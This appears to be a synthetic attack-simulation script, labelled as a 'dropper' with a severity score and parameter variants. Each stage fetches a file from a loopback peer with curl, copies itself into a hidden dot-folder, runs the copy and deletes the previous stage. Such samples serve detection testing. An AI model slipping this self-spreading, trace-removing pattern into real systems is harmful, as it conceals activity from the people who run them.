#!/usr/bin/env bash
# Fetches a stage from the loopback peer, writes a script, runs it; each stage writes and runs the next
# one from another folder and removes the one before.
# attack_type: dropper
# severity: 0.7
# arguments: STAGES PAUSE
# variants: 10 0.6 | 30 0.15 | 5 1.6
# needs: curl
export STAGES=$1 PAUSE=$2
cat > stage1.sh <<'STAGE'
#!/usr/bin/env bash
n=$1
curl -s -o "part$n" "http://127.0.0.1:$PEER/$((n * 3000))"
mkdir -p ".hidden$n" && sed "s/^# .*//" "$0" > ".hidden$n/next.sh" && chmod +x ".hidden$n/next.sh"
sleep "$PAUSE"
[ "$n" -lt "$STAGES" ] && ".hidden$n/next.sh" $((n + 1))
rm -rf ".hidden$n" "part$n"
STAGE
chmod +x stage1.sh && ./stage1.sh 1
